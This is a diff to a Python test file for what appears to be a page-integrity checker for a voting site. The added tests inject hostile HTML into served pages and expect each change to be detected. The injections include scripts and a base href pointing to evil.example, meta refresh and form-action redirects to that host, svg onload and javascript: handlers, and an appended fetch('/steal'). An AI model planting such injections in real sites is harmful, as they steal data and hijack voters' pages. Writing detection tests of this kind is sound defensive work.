@@ -43,11 +43,35 @@ def test_other_credentials_or_trustees_in_the_archive_are_observed(site, between
 def test_another_script_behind_the_address_with_a_version_is_observed(site, between):
     seal = manifest(site)
     between.every = lambda text: text.replace("/assets/site.js?v=", "/assets/site.js?v=0")
-    assert "finds a script in / that is not sealed" in site.run("observe", site.address, "--seal", seal, status=1).stderr
+    assert "/ holds a script that is not sealed" in site.run("observe", site.address, "--seal", seal, status=1).stderr
     between.every = lambda text: text
     # The same path, another content where the version is asked for: a browser's way, not an observer's.
     between.versioned = lambda content, path: content + b"\nfetch('/steal');"
     assert "is given another /assets/site.js?v=" in site.run("observe", site.address, "--seal", seal, status=1).stderr
+
+
+@pytest.mark.parametrize("old, new, words", [
+    ("</body>", '<SCRIPT src="//evil.example/a.js"></SCRIPT></body>', "is no page of this program"),
+    ("</body>", '<script data-src="/assets/site.js" src="//evil.example/a.js"></script></body>', "a script that is not sealed: //evil"),
+    ("<head>", '<head><base href="//evil.example/">', "holds <base>"),
+    ("</body>", "<svg/onload=alert(1)></body>", "is no page of this program"),
+    ("</body>", '<svg onload="alert(1)"></svg></body>', "holds <svg>"),
+    ("</body>", '<iframe src="/"></iframe></body>', "holds <iframe>"),
+    ("<head>", '<head><meta http-equiv="refresh" content="0;url=//evil.example">', "holds the attribute http-equiv"),
+    ("</body>", '<a href="javascript:steal()">Voter</a></body>', "leads to javascript:"),
+    ("</body>", "<!-- <script> --></body>", "is no page of this program"),
+    ('action="/', 'action="//evil.example/', "with the address //evil.example/"),
+    ("<body", '<body onclick="steal()"', "holds the attribute onclick"),
+    ("</body>", "<style>main { display: none }</style></body>", "holds <style>"),
+    ("<noscript>", '<noscript><meta http-equiv="refresh" content="0">', "http-equiv"),
+    ('rel="stylesheet" href="/assets/style.css', 'rel="stylesheet" href="/assets/console.css', "loads /assets/console.css"),
+])
+def test_a_page_that_runs_something_else_is_observed(site, between, old, new, words):
+    seal = manifest(site)
+    between.every = lambda text: text.replace(old, new)
+    pages = [requests.get(f"{site.address}{path}", timeout=20).text for path in ("/", "/box", "/help", "/lost")]
+    assert any(new in page for page in pages), "nothing was changed"
+    assert words in site.run("observe", site.address, "--seal", seal, status=1).stderr
 
 
 def save(someone, path=PAGE):
@@ -111,10 +135,13 @@ def test_a_saved_page_tells_what_a_server_changed(site, visitor, between):
     assert "the page shows the seal" in judge(site, seal, save(jeanne))
     # By hand, what no browser test needs to draw.
     first_label = re.search(r'<label class="choice">', honest).group()
+    fieldset = re.search(r"<fieldset.*?</fieldset>", honest, re.S).group()
     for old, new, words in (
             ("</body>", '<script src="/assets/pow.js"></script></body>', "runs other scripts"),
             ("</body>", "<script>vote()</script></body>", "runs other scripts"),
             ("</body>", '<iframe src="/"></iframe></body>', "holds <iframe>"),
+            ("</head>", '<meta http-equiv="refresh" content="0;url=/kiosk/end"></head>', 'the attribute http-equiv="refresh"'),
+            (fieldset, f"<details><summary>Plus</summary>{fieldset}</details>", "a question stands inside <details>"),
             ("</head>", "<style>.choice { display: none }</style></head>", "holds <style>"),
             ('rel="stylesheet" href="/assets/style.css', 'rel="stylesheet" href="/assets/console.css', "loads /assets/console.css"),
             ("</legend>", '</legend><img src="/assets/logo.svg" alt="">', "question 1 holds <img>"),
